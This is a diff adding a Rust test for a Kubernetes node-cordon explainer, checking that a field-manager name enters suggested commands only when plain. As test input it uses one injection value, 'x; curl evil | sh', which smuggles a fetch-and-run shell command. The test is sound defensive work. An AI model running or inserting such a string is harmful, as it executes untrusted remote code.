@@ -241,6 +241,31 @@ mod tests {
     }
 
     #[test]
+    fn the_name_of_a_field_manager_is_in_a_command_only_if_it_is_plain() {
+        let text = |manager: &str| {
+            let mut cordoned = input();
+            let node = cordoned.node.as_mut().expect("a Node");
+            node["spec"]["unschedulable"] = true.into();
+            node["metadata"]["managedFields"] = json!([{
+                "manager": manager, "operation": "Update", "time": "2026-11-16T09:00:00Z",
+                "fieldsV1": { "f:spec": { "f:unschedulable": {} } },
+            }]);
+            let explanation = explain(&cordoned);
+            let owner = explanation.checks.iter().find(|check| check.subject == "spec.unschedulable");
+            let owner = owner.and_then(|check| check.owner.clone());
+            let uncordon = |action: &&explain::Action| action.command.as_deref() == Some("kubectl uncordon host-17");
+            let action = explanation.actions.iter().find(uncordon).expect("it names the command");
+            (action.description.clone(), owner.expect("its author is known"), explanation.verdict.message)
+        };
+        let (description, owner, message) = text("kubectl-cordon");
+        assert_eq!((&*description, &*owner), ("makes it schedulable if kubectl-cordon is done", "kubectl-cordon"));
+        assert!(message.contains("cordoned by kubectl-cordon at"), "{message}");
+        let (description, owner, message) = text("x; curl evil | sh");
+        assert_eq!((&*description, &*owner), ("makes it schedulable", "\"x; curl evil | sh\""));
+        assert!(message.contains("cordoned by \"x; curl evil | sh\" at"), "{message}");
+    }
+
+    #[test]
     fn a_node_with_times_that_do_not_parse_is_explained() {
         let mut input = input();
         input.node.as_mut().expect("a Node")["status"]["conditions"][0]["lastHeartbeatTime"] =
